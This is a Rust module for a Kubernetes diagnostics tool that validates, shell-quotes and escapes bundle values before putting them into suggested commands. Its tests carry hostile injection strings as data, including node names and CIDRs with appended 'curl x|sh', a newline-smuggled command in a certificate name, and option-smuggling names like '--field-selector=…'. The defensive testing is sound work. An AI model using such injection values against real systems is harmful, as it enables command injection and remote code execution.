//! Shell commands built safely from bundle data: every value is validated for what it is
//! (a host name, an absolute path, a CIDR, a number, a Kubernetes name) and shell-quoted
//! with `shlex`; values in comments are shown with their control characters escaped, so a
//! newline in a certificate's CN cannot turn a comment into a command.
//!
//! Catalogue templates are scanned once ([`scan`]) so that a placeholder is only ever filled
//! where quoting holds: in an unquoted word, in a comment, or in the body of a heredoc with
//! a quoted delimiter (`<<'EOF'`, whose body the shell does not expand), never inside quotes.

use std::net::IpAddr;

/// What a placeholder's value must be, judged from the placeholder's name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A node's host name: a DNS name (RFC 1123 labels) or an IP address.
    Host,
    /// An absolute, clean path (no `.`/`..` components, no empty components).
    Path,
    /// An IPv4 or IPv6 network in CIDR notation.
    Cidr,
    /// A decimal number.
    Number,
    /// A name (object, namespace, key, certificate CN, …): any text without control
    /// characters, quoted as one word.
    Name,
    /// A whole command line the check built itself from quoted parts: inserted verbatim.
    Command,
}

impl Kind {
    /// The kind of the value `{name}` holds.
    pub fn of(name: &str) -> Kind {
        match name {
            "node" | "host" => Kind::Host,
            "flannel_network" | "flannel_subnet" | "cidr" => Kind::Cidr,
            "flannel_mtu" | "mtu" => Kind::Number,
            "manifest_fix" => Kind::Command,
            n if n.ends_with("_command") => Kind::Command,
            "path" | "ca_path" | "signer_ca" | "kubeconfig" | "cert_dir" | "kubelet_config"
            | "checkpoint_dir" | "dir" | "key_path" | "cni_conf_dir" | "file_set" | "backup_dir" => {
                Kind::Path
            }
            n if n.ends_with("_path") || n.ends_with("_dir") => Kind::Path,
            _ => Kind::Name,
        }
    }

    /// What a valid value of this kind is, for the "check it by hand" line.
    pub fn describe(self) -> &'static str {
        match self {
            Kind::Host => "host name (DNS name or IP address)",
            Kind::Path => "absolute path",
            Kind::Cidr => "CIDR network",
            Kind::Number => "number",
            Kind::Name => "name without control characters or a leading '-'",
            Kind::Command => "command",
        }
    }
}

/// Whether `c` must never reach a command line: control characters and the invisible
/// format characters that reorder or hide text (bidi overrides, zero-width, BOM).
pub fn is_unsafe_char(c: char) -> bool {
    // Unicode's format characters (category Cf: zero-width, bidi controls, soft hyphen, word
    // joiner, invisible operators, tag characters), the line and paragraph separators, and
    // the blank-looking Hangul fillers: all hide or reorder what a pasted command does.
    c.is_control()
        || matches!(
            c,
            '\u{00ad}'
                | '\u{0600}'..='\u{0605}'
                | '\u{061c}'
                | '\u{06dd}'
                | '\u{070f}'
                | '\u{08e2}'
                | '\u{115f}'
                | '\u{1160}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{206f}'
                | '\u{3164}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff9}'..='\u{fffb}'
                | '\u{110bd}'
                | '\u{110cd}'
                | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0001}'
                | '\u{e0020}'..='\u{e007f}'
        )
}

/// Whether `value` is a valid value of `kind`.
pub fn valid(kind: Kind, value: &str) -> bool {
    if value.is_empty() || value.chars().any(is_unsafe_char) {
        return false;
    }
    match kind {
        Kind::Host => value.parse::<IpAddr>().is_ok() || is_dns_name(value),
        Kind::Path => is_clean_absolute_path(value),
        Kind::Cidr => value.parse::<ipnet::IpNet>().is_ok(),
        Kind::Number => value.len() <= 10 && value.bytes().all(|b| b.is_ascii_digit()),
        // Kubernetes names are at most 253 bytes; a longer one is hostile or broken and
        // would flood every report that prints the command.
        // A leading `-` would make the word an option of the command (`kubectl delete pod
        // --field-selector=…` deletes every pod): no Kubernetes name starts with one.
        Kind::Name => value.len() <= 1024 && !value.starts_with('-'),
        Kind::Command => true,
    }
}

/// RFC 1123 host name: dot-separated labels of letters, digits and inner hyphens, each at
/// most 63 bytes, 253 in all.
pub fn is_dns_name(s: &str) -> bool {
    let s = s.strip_suffix('.').unwrap_or(s);
    !s.is_empty()
        && s.len() <= 253
        && s.split('.').all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
                && !l.starts_with('-')
                && !l.ends_with('-')
        })
}

/// `/` followed by non-empty components other than `.` and `..` (a trailing `/` is fine).
pub fn is_clean_absolute_path(s: &str) -> bool {
    let Some(rest) = s.strip_prefix('/') else {
        return false;
    };
    let rest = rest.strip_suffix('/').unwrap_or(rest);
    rest.is_empty() || rest.split('/').all(|c| !c.is_empty() && c != "." && c != "..")
}

/// `value` as one shell word (`shlex` quoting); `None` for a value no shell can hold (NUL)
/// or that holds control characters (unsafe to paste into an interactive shell).
pub fn quote(value: &str) -> Option<String> {
    if value.chars().any(is_unsafe_char) {
        return None;
    }
    shlex::try_quote(value).ok().map(|c| c.into_owned())
}

/// Joins words into one command line, each quoted; `None` if one cannot be quoted.
pub fn join<'a>(words: impl IntoIterator<Item = &'a str>) -> Option<String> {
    words
        .into_iter()
        .map(quote)
        .collect::<Option<Vec<_>>>()
        .map(|w| w.join(" "))
}

/// `value` made safe for a `#` comment: control and format characters shown escaped
/// (`\n`, `\u{202e}`), so the comment stays one line and reads as it is.
pub fn comment_text(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        if is_unsafe_char(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// The word that stands for a value no command can hold (control characters, NUL).
pub const INVALID_WORD: &str = "'<bundle value with control characters: check it by hand>'";

/// `value` as one shell word, for commands the checks build from parts: quoted, or
/// [`INVALID_WORD`] (harmless when run) when it cannot be.
pub fn word(value: &str) -> String {
    quote(value).unwrap_or_else(|| INVALID_WORD.to_string())
}

/// The harmless word in place of a bundle value that would be read as an option.
pub const OPTION_WORD: &str = "'<bundle value starting with -: check it by hand>'";

/// `value` as one operand word (a name, namespace, path or key, never an option): as
/// [`word`], but a value starting with `-` becomes [`OPTION_WORD`], so that a hostile object
/// name (`--field-selector=…`, `-rf`) cannot become an option of the command.
pub fn operand(value: &str) -> String {
    if value.starts_with('-') {
        OPTION_WORD.to_string()
    } else {
        word(value)
    }
}

/// The shell variable the operator sets to the node an ssh command goes to.
pub const SSH_TARGET: &str = "NODE";

/// `ssh -- "${NODE:?…}" <remote command>`: the host is the operator's, never the bundle's
/// (a bundle's node name, even a valid one such as `evil.example.com`, would receive what is
/// piped in: a live Secret's private key). The remote command is quoted once more, because
/// ssh hands its arguments to the remote shell as one string to parse again.
pub fn ssh(remote: &str) -> String {
    format!(
        "ssh -- \"${{{SSH_TARGET}:?set {SSH_TARGET} to the node as you reach it}}\" {}",
        word(remote)
    )
}

/// The line shown instead of a command whose value failed validation.
pub fn check_by_hand(name: &str, kind: Kind) -> String {
    format!(
        "# the bundle's value for {name} is not a valid {}: check it by hand",
        kind.describe()
    )
}

/// Where a placeholder sits in a template.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Context {
    /// An unquoted shell word (possibly glued to literal text): the value is quoted.
    Word,
    /// A `#` comment: the value is shown escaped.
    Comment,
    /// Inside a heredoc with a quoted delimiter: the value is validated, never quoted.
    Heredoc,
    /// Inside single or double quotes, or an unquoted heredoc: not allowed.
    Quoted,
}

/// One piece of a scanned template.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Piece {
    /// Literal template text.
    Text(String),
    /// A `{name}` placeholder and where it sits.
    Hole(String, Context),
}

/// Splits a template into literal text and placeholders, tracking the shell context of each
/// placeholder (quotes, comments, heredoc bodies). A `{` not followed by `name}` is text.
pub fn scan(template: &str) -> Vec<Piece> {
    let mut out = Vec::new();
    let mut text = String::new();
    let mut single = false;
    let mut double = false;
    let mut comment = false;
    let mut heredoc: Option<(String, bool)> = None; // (delimiter, quoted)
    let mut pending_heredoc: Option<(String, bool)> = None;
    let mut line_start = true;
    let chars: Vec<char> = template.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if line_start {
            if let Some((delim, _)) = &heredoc {
                let line: String = chars[i..].iter().take_while(|c| **c != '\n').collect();
                if line == *delim {
                    heredoc = None;
                }
            }
            line_start = false;
        }
        if c == '{' {
            let name: String = chars[i + 1..]
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
                .collect();
            if !name.is_empty() && chars.get(i + 1 + name.chars().count()) == Some(&'}') {
                let cx = match &heredoc {
                    Some((_, true)) => Context::Heredoc,
                    Some((_, false)) => Context::Quoted,
                    None if comment => Context::Comment,
                    None if single || double => Context::Quoted,
                    None => Context::Word,
                };
                if !text.is_empty() {
                    out.push(Piece::Text(std::mem::take(&mut text)));
                }
                i += name.chars().count() + 2;
                out.push(Piece::Hole(name, cx));
                continue;
            }
        }
        text.push(c);
        if c == '\n' {
            comment = false;
            line_start = true;
            if heredoc.is_none() {
                heredoc = pending_heredoc.take();
            }
        } else if heredoc.is_some() || comment {
        } else if single {
            single = c != '\'';
        } else if c == '\\' && !single {
            if let Some(n) = chars.get(i + 1) {
                text.push(*n);
                i += 1;
            }
        } else if double {
            double = c != '"';
        } else if c == '\'' {
            single = true;
        } else if c == '"' {
            double = true;
        } else if c == '#' && (i == 0 || chars[i - 1].is_whitespace()) {
            comment = true;
        } else if c == '<' && chars.get(i + 1) == Some(&'<') && chars.get(i + 2) != Some(&'<') {
            let mut j = i + 2;
            if chars.get(j) == Some(&'-') {
                j += 1;
            }
            while chars.get(j) == Some(&' ') {
                j += 1;
            }
            let quoted = matches!(chars.get(j), Some('\'') | Some('"'));
            let word: String = chars[j..]
                .iter()
                .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '|' | '&' | ')'))
                .filter(|c| !matches!(c, '\'' | '"'))
                .collect();
            if !word.is_empty() {
                pending_heredoc = Some((word, quoted));
            }
        }
        i += 1;
    }
    if !text.is_empty() {
        out.push(Piece::Text(text));
    }
    out
}

/// Placeholder names of a template, in order of appearance.
pub fn placeholders(template: &str) -> Vec<String> {
    scan(template)
        .into_iter()
        .filter_map(|p| match p {
            Piece::Hole(n, _) => Some(n),
            Piece::Text(_) => None,
        })
        .collect()
}

/// Why a template cannot be filled safely (a placeholder inside quotes or in an unquoted
/// heredoc, a whole-command placeholder not standing alone), or `None`.
pub fn template_error(template: &str) -> Option<String> {
    for p in scan(template) {
        if let Piece::Hole(n, cx) = p {
            if cx == Context::Quoted {
                return Some(format!(
                    "placeholder {{{n}}} sits inside quotes or an unquoted heredoc: put it in an unquoted word \
                     (it is shell-quoted when filled) or use a quoted heredoc delimiter (<<'EOF')"
                ));
            }
            if cx == Context::Heredoc && !matches!(Kind::of(&n), Kind::Cidr | Kind::Number | Kind::Host) {
                return Some(format!(
                    "placeholder {{{n}}} in a heredoc body must be a validated kind without spaces (CIDR, number, host)"
                ));
            }
        }
    }
    None
}

/// How filling a template went.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Filled {
    /// The command, values quoted.
    Command(String),
    /// A placeholder had no value.
    Missing(String),
    /// A value failed validation: the line to show instead of the command.
    Invalid(String),
}

/// Fills a template: each value validated for its [`Kind`] and quoted for its [`Context`].
pub fn fill(template: &str, value: impl Fn(&str) -> Option<String>) -> Filled {
    let mut out = String::new();
    for p in scan(template) {
        match p {
            Piece::Text(t) => out.push_str(&t),
            Piece::Hole(name, cx) => {
                let Some(v) = value(&name) else {
                    return Filled::Missing(name);
                };
                let kind = Kind::of(&name);
                match cx {
                    Context::Comment => out.push_str(&comment_text(&v)),
                    Context::Word if kind == Kind::Command => out.push_str(&v),
                    Context::Word => {
                        if !valid(kind, &v) {
                            return Filled::Invalid(check_by_hand(&name, kind));
                        }
                        match quote(&v) {
                            Some(q) => out.push_str(&q),
                            None => return Filled::Invalid(check_by_hand(&name, kind)),
                        }
                    }
                    Context::Heredoc => {
                        if !matches!(kind, Kind::Cidr | Kind::Number | Kind::Host) || !valid(kind, &v) {
                            return Filled::Invalid(check_by_hand(&name, kind));
                        }
                        out.push_str(&v);
                    }
                    Context::Quoted => return Filled::Invalid(check_by_hand(&name, kind)),
                }
            }
        }
    }
    Filled::Command(out)
}

/// The quoting promise for one template and one value put in every placeholder: the filled
/// command parses (`shlex`) into the same words as the template filled with a harmless
/// sentinel, each word holding the value where the sentinel was, so the value stays inside
/// its word; a command the value made invalid is a comment. Whole-command placeholders
/// (built by the checks from quoted parts) are not judged here. Used by the property test
/// and the `command` fuzz target.
pub fn check_quoting(template: &str, value: &str) -> Result<(), String> {
    const SENTINEL: &str = "kt0sentinel";
    if placeholders(template)
        .iter()
        .any(|n| Kind::of(n) == Kind::Command)
    {
        return Ok(());
    }
    let line = match fill(template, |_| Some(value.to_string())) {
        Filled::Command(c) => c,
        Filled::Invalid(c) => {
            return if shlex::split(&c).is_some_and(|w| w.is_empty()) && !c.contains('\n') {
                Ok(())
            } else {
                Err(format!("the check-by-hand line is not a lone comment: {c:?}"))
            };
        }
        Filled::Missing(n) => return Err(format!("{{{n}}} missing")),
    };
    // The sentinel is a valid value of every kind in a word; where a kind rejects it (a
    // CIDR, a number), use a valid value of that kind instead: the word count is what counts.
    let sentinel_for = |n: &str| match Kind::of(n) {
        Kind::Cidr => "10.0.0.0/8".to_string(),
        Kind::Number => "1450".to_string(),
        Kind::Path => "/kt0pathsentinel".to_string(),
        _ => SENTINEL.to_string(),
    };
    let Filled::Command(reference) = fill(template, |n| Some(sentinel_for(n))) else {
        return Err("the template does not fill with the sentinel".into());
    };
    let (Some(got), Some(want)) = (shlex::split(&line), shlex::split(&reference)) else {
        return Err(format!("does not parse: {line:?}"));
    };
    if got.len() != want.len() {
        return Err(format!("{} words instead of {}: {line:?}", got.len(), want.len()));
    }
    // Words with a placeholder hold exactly the value in its place (a single kind per word
    // keeps this check simple: the value replaces the sentinel text).
    for (g, w) in got.iter().zip(&want) {
        if w.contains(SENTINEL) || w.contains("kt0pathsentinel") {
            // One pass over the reference word: a value holding the sentinel text itself
            // must not be substituted again.
            let expect = w
                .replace("/kt0pathsentinel", SENTINEL)
                .split(SENTINEL)
                .collect::<Vec<_>>()
                .join(value);
            if *g != expect {
                return Err(format!("word {g:?} is not {expect:?}: {line:?}"));
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get<'a>(vars: &'a [(&'a str, &'a str)]) -> impl Fn(&str) -> Option<String> + 'a {
        move |n| vars.iter().find(|(k, _)| *k == n).map(|(_, v)| (*v).to_string())
    }

    #[test]
    fn a_value_holding_the_sentinel_text_is_judged_once() {
        // Found by the `command` fuzz target: the check substituted the value into itself.
        assert_eq!(
            check_quoting("sudo ls -l {path}   # on {node}", "/\\$\u{fffd}------kt0sentinel"),
            Ok(())
        );
    }

    #[test]
    fn a_name_that_would_be_an_option_is_checked_by_hand() {
        // Hostile round 10: a dumped pod named `--field-selector=…` made
        // `kubectl delete pod '--field-selector=…'` delete every pod of the namespace.
        let t = "kubectl -n kube-system delete pod {pod}";
        for v in ["--field-selector=metadata.name!=flannel", "-rf", "--context=prod"] {
            match fill(t, get(&[("pod", v)])) {
                Filled::Invalid(line) => assert!(line.starts_with('#'), "{line}"),
                other => panic!("{v}: {other:?}"),
            }
        }
        assert_eq!(
            fill(t, get(&[("pod", "kube-flannel-ds-x7k2p")])),
            Filled::Command("kubectl -n kube-system delete pod kube-flannel-ds-x7k2p".to_string())
        );
    }

    #[test]
    fn an_operand_never_becomes_an_option() {
        assert_eq!(operand("--field-selector=metadata.name!=x"), OPTION_WORD);
        assert_eq!(operand("-rf"), OPTION_WORD);
        assert_eq!(operand("kube-flannel-ds-7xk2p"), "kube-flannel-ds-7xk2p");
        assert_eq!(operand("a b"), "'a b'");
    }

    #[test]
    fn values_are_quoted_in_words_and_escaped_in_comments() {
        let t = "openssl x509 -in {path} -noout   # on {node}: {cn}";
        let f = fill(
            t,
            get(&[("path", "/etc/a b.crt"), ("node", "cp-1"), ("cn", "x\ncurl y|sh")]),
        );
        assert_eq!(
            f,
            Filled::Command("openssl x509 -in '/etc/a b.crt' -noout   # on cp-1: x\\ncurl y|sh".into())
        );
    }

    #[test]
    fn hostile_host_names_show_no_command() {
        let f = fill(
            "systemctl restart kubelet   # on {node}\nssh {node} true",
            get(&[("node", "master-01;curl x|sh;#")]),
        );
        assert_eq!(f, Filled::Invalid(check_by_hand("node", Kind::Host)));
    }

    /// Invisible characters a hostile name hides a different command behind (hostile
    /// round 4): every one makes the value invalid, so no command shows it.
    #[test]
    fn invisible_characters_are_unsafe() {
        for c in [
            '\u{00ad}',
            '\u{2060}',
            '\u{2063}',
            '\u{2064}',
            '\u{206a}',
            '\u{3164}',
            '\u{e0041}',
            '\u{e007f}',
        ] {
            assert!(is_unsafe_char(c), "{:?}", c);
            assert!(!valid(Kind::Name, &format!("kube{c}-system")), "{:?}", c);
        }
        assert!(valid(Kind::Name, "kube-système"));
    }

    #[test]
    fn heredoc_values_must_validate() {
        let t = "tee /x <<'EOF'\nN={flannel_network}\nEOF";
        assert_eq!(
            scan(t)
                .iter()
                .filter(|p| matches!(p, Piece::Hole(_, Context::Heredoc)))
                .count(),
            1
        );
        assert!(matches!(
            fill(t, get(&[("flannel_network", "10.2.0.0/16$(curl x|sh)")])),
            Filled::Invalid(_)
        ));
        assert_eq!(
            fill(t, get(&[("flannel_network", "10.2.0.0/16")])),
            Filled::Command("tee /x <<'EOF'\nN=10.2.0.0/16\nEOF".into())
        );
        assert!(template_error("tee /x <<EOF\nN={flannel_network}\nEOF").is_some());
        assert!(template_error("ssh {node} 'mv {path} /x'").is_some());
        assert!(template_error("kubectl get -o jsonpath='{.items}' {node}").is_none());
    }

    #[test]
    fn validation_by_kind() {
        assert!(valid(Kind::Host, "ip-10-0-0-1.ec2.internal"));
        assert!(valid(Kind::Host, "fd00::1"));
        assert!(!valid(Kind::Host, "a b"));
        assert!(valid(Kind::Path, "/etc/kubernetes/pki/"));
        assert!(!valid(Kind::Path, "/etc/../root"));
        assert!(!valid(Kind::Path, "etc/x"));
        assert!(valid(Kind::Cidr, "fd00::/64"));
        assert!(!valid(Kind::Cidr, "10.0.0.0/33"));
        assert!(!valid(Kind::Name, "a\u{202e}b"));
    }
}
